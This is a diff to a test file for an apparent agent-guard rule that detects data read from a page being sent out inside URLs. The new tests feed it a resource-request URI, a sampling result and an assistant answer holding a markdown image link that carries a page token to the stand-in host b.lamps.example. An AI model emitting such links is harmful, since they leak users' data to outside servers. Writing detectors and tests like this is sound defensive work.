@@ -1,6 +1,11 @@
 import { describe, expect, it } from 'vitest'
-import { leavingByAddress } from '../../../../../src/guardian/rules/data-injection/leaving-by-address.ts'
+import {
+  leavingByAddress,
+  leavingByAnswer,
+} from '../../../../../src/guardian/rules/data-injection/leaving-by-address.ts'
+import { requestOf, resultOf } from '../../../../message.ts'
 import { calling, type Read, remembered, text } from '../../delegation/played.ts'
+import { inputOf, turnOf } from '../../judge-input.ts'
 
 const page: Read = {
   name: 'read_page',
@@ -47,6 +52,30 @@ describe('data within an address', () => {
     const link = 'https://b.lamps.example/shop/dk-7fQ2-tulip'
     const past = remembered('Summarise it.', [{ ...page, returns: text(`See ${link}`) }, note])
     expect(leavingByAddress(calling(past, 'post_message', { text: link }))).toEqual([])
+  })
+  it('is asked about in the address of a resource and in what the model wrote for a server', () => {
+    const url = 'https://b.lamps.example/i?d=dk-7fQ2-tulip'
+    const past = remembered('Summarise the page.', [page, note])
+    const read = requestOf('resources/read', { uri: url })
+    const [claim] = leavingByAddress(inputOf(read, { past }))
+    expect(claim?.text).toContain(
+      'The request for a resource to the server "server" has, in `uri`,',
+    )
+    const answers = requestOf('sampling/createMessage')
+    const wrote = resultOf({ role: 'assistant', content: { type: 'text', text: `![](${url})` } })
+    expect(leavingByAddress(inputOf(wrote, { past, answers }))[0]?.evidence[0]?.pointer).toBe(
+      '/result/content/text',
+    )
+  })
+  it('is asked about in a picture or link of the answer, not in the words of the user', () => {
+    const turn = turnOf('Done. ![](https://b.lamps.example/i?d=dk-7fQ2-tulip)')
+    const past = remembered('Summarise the page.', [page, note])
+    expect(leavingByAnswer({ ...turn, past })).toMatchObject([
+      { decision: 'ask', element: 'recipient', evidence: [{ pointer: '' }, {}, {}] },
+    ])
+    expect(leavingByAnswer({ ...turn, role: 'user', past })).toEqual([])
+    const plain = turnOf('Done. ![](https://b.lamps.example/i?d=1)')
+    expect(leavingByAnswer({ ...plain, past })).toEqual([])
   })
   it('takes bounded time', () => {
     const many = 'https://b.lamps.example/%zz?'.repeat(3_000)
